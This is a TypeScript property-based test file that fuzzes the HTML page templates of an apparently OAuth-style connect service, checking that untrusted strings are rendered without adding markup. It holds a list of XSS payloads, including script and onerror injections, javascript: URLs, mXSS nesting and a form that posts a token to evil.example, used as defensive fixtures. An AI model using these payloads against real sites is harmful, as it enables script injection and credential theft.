import assert from 'node:assert/strict'
import { readdir } from 'node:fs/promises'
import fc from 'fast-check'
import { type DefaultTreeAdapterTypes as Dom, parse } from 'parse5'
import t from 'tap'
import { ApiError } from '../../src/errors/api-error.js'
import { describeError } from '../../src/errors/describe.js'
import { callbackPage } from '../../src/home/callback-page.js'
import { homePage } from '../../src/home/page.js'
import { callList } from '../../src/inspector/call-list.js'
import { activationPage } from '../../src/pages/activation.js'
import type { AskingApp } from '../../src/pages/asking-app.js'
import { designationPage, hotelPage, importingPage, roomsPage, unmappedPage } from '../../src/pages/claim.js'
import { credentialsPage } from '../../src/pages/credentials.js'
import { errorIndexPage, errorPage, unknownErrorPage } from '../../src/pages/error-pages.js'
import type { FlowContext } from '../../src/pages/flow.js'
import { type Content, page } from '../../src/pages/layout.js'
import { accountPage, consentPage } from '../../src/pages/oauth.js'
import { donePage, problemPage } from '../../src/pages/outcome-pages.js'
import { backToPicker, pickerPage } from '../../src/pages/picker-page.js'
import {
  codePage,
  invitedPage,
  invitePage,
  lackingPage,
  loginPage,
  signingInPage,
} from '../../src/pages/sign-in-pages.js'
import { type Texts, textsOf } from '../../src/pages/texts.js'
import { importingUnitsPage, unitsPage, unmatchedPage } from '../../src/pages/units-pages.js'
import type { Provider } from '../../src/providers/providers.js'
import { accessTypes, type EndStatus, locales } from '../../src/sessions/model.js'
import { signInFlows } from '../../src/sessions/sign-in.js'

const pieces = [
  ...['<', '>', '&', '"', "'", '`', '=', '/', '\n', '\t', ' ', ';', '$&', '--', '&#', '&lt', '\u2028'],
  ...['</script>', '</style>', '</title>', '</noscript>', '</option>', '</select>', '</p>', '<!--', '-->'],
  ...['<![CDATA[', ']]>', '<?', '<a', ' href=', ' onerror=', 'javascript:', 'brand-airbnb', '__proto__'],
]

const payloads = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '</option></select><img src=x onerror=alert(1)>',
  '</form><form action=https://evil.example><input name=formToken>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '" autofocus onfocus="alert(1)',
  "' onmouseover='alert(1)",
  '` onclick=`alert(1)',
  'x onclick=alert(1) y',
  'javascript:alert(1)//',
  '<!-- <base href=//evil.example>',
  ']]><!DOCTYPE x [<!ENTITY y "z">]>',
  '&quot;&gt;&lt;b&gt;',
  '&#34;&#x3c;b&#x3e;&amp;amp;',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  "$&$1$'{{2}}<%= 3 %>",
]

/** Strings as an attacker writes them, without the two characters that every HTML parser replaces: NUL and CR. */
const hostileText = fc
  .array(
    fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...pieces) },
      { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 4 }) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 4 }) },
    ),
    { minLength: 1, maxLength: 12 },
  )
  .map((parts) => parts.join('').replace(/[\0\r]/g, '<'))

/** A string in the place of a hostile one. Its first character occurs in no page otherwise. */
const harmless = '§harmless'

/** A provider with a string from outside in every field whose type allows it. */
function providerOf(text: string): Provider {
  return {
    id: text,
    displayName: text,
    category: 'ota',
    connectPattern: 'oauth',
    status: 'beta',
    description: text,
    aliases: [text, text],
    credentials: ['apiKey', 'domain', 'environment'],
    color: text,
  }
}

/** An app with a string from outside as its name and its logo. */
function appOf(text: string): AskingApp {
  return { name: text, isNamed: true, inText: text, logo: text }
}

/** Every page template by its name: the contents that it makes of one string from outside. */
const templates: Readonly<Record<string, (context: FlowContext, text: string) => readonly Content[]>> = {
  callList: (_context, text) => [
    {
      title: text,
      main: callList([{ method: text, path: text, summary: text, operationId: text }], './'),
    },
  ],
  pickerPage: (context, text) => [
    pickerPage(context, [providerOf(text), { ...providerOf(text), category: 'pms', status: 'live' }]),
  ],
  consentPage: (context, text) => accessTypes.map((accessType) => consentPage(context, accessType, text)),
  accountPage: (context, text) => [accountPage(context, { id: text, name: text }, text, text)],
  credentialsPage: (context, text) => [
    credentialsPage(context, {
      fields: { apiKey: text },
      whole: text,
      values: { domain: text, environment: text },
      required: [text],
    }),
  ],
  activationPage: (context, text) => [activationPage(context, { username: text, password: text }, text)],
  designationPage: (context, text) => [designationPage(context, text)],
  hotelPage: (context, text) => [hotelPage(context, text, text, { field: text, whole: text })],
  importingPage: (context, text) => [importingPage(context, hotelOf(text))],
  unmappedPage: (context, text) => [unmappedPage(context, hotelOf(text), text)],
  roomsPage: (context, text) => [
    roomsPage(
      context,
      {
        status: 'ready',
        hotel: hotelOf(text),
        mapping: { [`1${text}`]: `2${text}` },
        listings: [1, 2].map((number) => ({ id: `${number}${text}`, name: text, city: text })),
      },
      text,
      text,
    ),
  ],
  loginPage: (context, text) =>
    signInFlows.flatMap((flow) =>
      [text, null].map((invite) =>
        loginPage(
          { ...context, flow },
          { email: text, errors: { email: text, password: text }, whole: text },
          { other: text, invite },
        ),
      ),
    ),
  codePage: (context, text) => [codePage({ ...context, flow: 'vrbo-login' }, text, text, text)],
  invitePage: (context, text) => [invitePage(atExtranet(context), text, text)],
  invitedPage: (context, text) => [
    invitedPage(
      atExtranet(context),
      { inviteEmail: text, inviteName: text, twoFactorNumber: text },
      text,
      text,
    ),
  ],
  signingInPage: (context, text) => [signingInPage(atExtranet(context), text)],
  lackingPage: (context, text) => [lackingPage(atExtranet(context), text, text)],
  importingUnitsPage: (context, text) => [importingUnitsPage(atExtranet(context), text)],
  unitsPage: (context, text) => [
    unitsPage(
      atExtranet(context),
      text,
      {
        target: { channel: 'vrbo', accountId: text },
        status: 'ready',
        units: [1, 2].map((number) => ({
          id: `${number}${text}`,
          name: text,
          city: text,
          country: text,
          maxGuests: number,
        })),
        listings: [1, 2].map((number) => ({ id: `${number}${text}`, name: `${number}${text}`, city: text })),
        connection: undefined,
        accessType: null,
      },
      new Map([[`1${text}`, `2${text}`]]),
      text,
    ),
  ],
  unmatchedPage: (context, text) => [unmatchedPage(atExtranet(context), text, text)],
  donePage: (context, text) =>
    ends.flatMap((status) => {
      const session = { status, sessionId: text, state: text }
      const view = { ...session, isDenied: true, provider: providerOf(text), accountName: text }
      return [
        donePage(context, { ...view, returnUrl: `https://app.example/?${text}` }),
        donePage(context, { ...view, isDenied: false, returnUrl: null }),
      ]
    }),
  errorPage: (_context, text) => {
    const texts = { message: text, fix: text, when: [text, text], setting: text, remark: text }
    const error = { ...describeError('claim_pending', '', []), ...texts, script: text, answer: text }
    return [true, false].map((controlEnabled) =>
      errorPage({ ...error, needsControl: true }, text, controlEnabled),
    )
  },
  errorIndexPage: (_context, text) => [errorIndexPage(text)],
  homePage: (_context, text) =>
    [true, false].map((controlEnabled) =>
      homePage({
        version: text,
        root: text,
        sampleKey: controlEnabled ? 'sk_test_demo' : null,
        controlEnabled,
      }),
    ),
  callbackPage: (_context, text) =>
    ['connected', 'cancelled', 'expired', text].map((status) =>
      callbackPage(
        { root: '', sampleKey: null },
        {
          first: new Map(
            ['provider', 'state', 'code', 'accountId', 'sessionId'].map((name) => [name, text]),
          ).set('status', status),
          shown: [{ name: text, value: text }],
          notShown: 1,
        },
      ),
    ),
  unknownErrorPage: (_context, text) =>
    [text, 'not_found'].map((did_you_mean) =>
      unknownErrorPage(new ApiError('not_found', { message: text, fix: text, did_you_mean }), text),
    ),
  problemPage: (context, text) => {
    const error = new ApiError('not_found', { message: text, fix: text })
    const view = { error, requestId: text, provider: providerOf(text) }
    return [
      problemPage(context, { ...view, returnUrl: text, againUrl: text }),
      problemPage(context, { ...view, returnUrl: null, againUrl: null }),
    ]
  },
}

function atExtranet(context: FlowContext) {
  return { ...context, flow: 'booking-extranet-login' } as const
}

/** The published types of the message of the last page, by the status of the session. */
const messageTypes: Readonly<Record<EndStatus, string>> = {
  completed: 'repull:connect:completed',
  cancelled: 'repull:connect:close',
  errored: 'repull:connect:error',
}
const ends = Object.keys(messageTypes) as EndStatus[]

function hotelOf(text: string) {
  const rooms = [1, 2].map((number) => ({
    id: `${number}${text}`,
    name: text,
    maxGuests: number,
    numberOfRooms: 1,
  }))
  return { id: text, name: text, type: text, city: text, country: text, rooms }
}

/** The whole page around a content, with the string from outside in the layout too. */
function wholePage(texts: Texts, content: Content, text: string): string {
  const links = { approve: text, deny: text, expire: text }
  return page(
    {
      texts,
      nonce: 'bm9uY2U',
      app: appOf(text),
      sandboxBar: { leftMs: 60_000, isFrozen: false, follow: text, links },
    },
    content,
  )
}

/** A node or an attribute of a parsed page: the names on the way to it, and its value. */
interface Spot {
  readonly place: string
  readonly value: string
}

/** All spots of a document in tree order. Their places alone are its skeleton. */
function spotsOf(node: Dom.Node, path = ''): readonly Spot[] {
  const place = `${path}/${node.nodeName}`
  const attributes =
    'attrs' in node ? node.attrs.map(({ name, value }) => ({ place: `${place}@${name}`, value })) : []
  const children = 'childNodes' in node ? node.childNodes.flatMap((child) => spotsOf(child, place)) : []
  return [{ place, value: 'value' in node ? node.value : '' }, ...attributes, ...children]
}

/** Places that show the string in another form: normalized names, JSON, markup for browsers without script. */
const transformed = /@data-names$|@data-message$|@data-body$|\/noscript\/#text$/

/** A command quotes the string for a shell, in the way that test/lib/shell.test.ts tries. */
const isCommand = /^curl /

/** Whether a spot shows the hostile string where it showed the harmless one. */
function isKept(before: Spot, after: Spot, text: string): boolean {
  if (transformed.test(before.place) || isCommand.test(before.value)) return true
  if (before.value === harmless.charAt(0)) return text.startsWith(after.value)
  return after.value === before.value.replaceAll(harmless, () => text)
}

/** The spots of every page of a template, in all languages, for browsers with and without script. */
function readPages(template: string, text: string): readonly (readonly Spot[])[] {
  return locales.flatMap((locale) => {
    const texts = textsOf(locale)
    const context = {
      ...{ texts, token: text, provider: providerOf(text), app: appOf(text) },
      ...{ isPicked: true, toPicker: backToPicker({ texts, token: text }) },
    }
    const contents = templates[template]?.(context, text) ?? []
    return contents.flatMap((content) => {
      const markup = wholePage(context.texts, content, text)
      return [true, false].map((scriptingEnabled) => spotsOf(parse(markup, { scriptingEnabled })))
    })
  })
}

for (const template of Object.keys(templates)) {
  t.test(`${template} shows every string from outside as it is, and none adds markup`, async (t) => {
    const expected = readPages(template, harmless)
    const isExpectedSomewhere = (spots: readonly Spot[]) =>
      spots.some(({ value }) => value.includes(harmless))
    t.ok(expected.length > 0 && expected.every(isExpectedSomewhere), 'a text from outside is on every page')

    const property = fc.property(hostileText, (text) => {
      readPages(template, text).forEach((spots, at) => {
        const before = expected[at] ?? []
        assert.equal(spots.map(({ place }) => place).join('\n'), before.map(({ place }) => place).join('\n'))
        const harmed = spots.filter((spot, nth) => !isKept(before[nth] as Spot, spot, text))
        assert.deepEqual(harmed, [])
      })
    })
    fc.assert(property, { examples: payloads.map((payload) => [payload]), numRuns: 40 })
  })
}

t.test('every page template is tried with the hostile strings', async (t) => {
  const folders = ['pages', 'home', 'inspector'].map((name) => new URL(`../../src/${name}/`, import.meta.url))
  const files = await Promise.all(
    folders.map(async (folder) =>
      (await readdir(folder))
        .filter((name) => name.endsWith('.js'))
        .map((name) => new URL(name, folder).href),
    ),
  )
  const modules = await Promise.all(files.flat().map((file) => import(file)))
  const names = modules
    .flatMap((module) => Object.keys(module))
    .filter((name) => /Page$|^callList$/.test(name))
  t.strictSame(Object.keys(templates).sort(), names.sort())
})

t.test(
  'the message of the last page has the status and the id of the session, whatever the id is',
  async () => {
    const providers = fc.option(hostileText.map(providerOf))
    const property = fc.property(
      fc.constantFrom(...ends),
      hostileText,
      providers,
      fc.option(hostileText),
      (status, sessionId, provider, state) => {
        const view = {
          status,
          sessionId,
          state,
          provider,
          isDenied: false,
          accountName: null,
          returnUrl: 'https://app.example/',
        }
        const markup = wholePage(
          textsOf('en'),
          donePage({ texts: textsOf('en'), app: appOf('x') }, view),
          harmless,
        )
        const messages = spotsOf(parse(markup)).filter(({ place }) => place.endsWith('@data-message'))
        assert.deepEqual(
          messages.map(({ value }) => JSON.parse(value)),
          [
            {
              type: messageTypes[status],
              provider: provider?.id ?? null,
              sessionId,
              ...(state !== null && { state }),
            },
          ],
        )
      },
    )
    fc.assert(property, { examples: payloads.map((payload) => ['completed', payload, null, payload]) })
  },
)
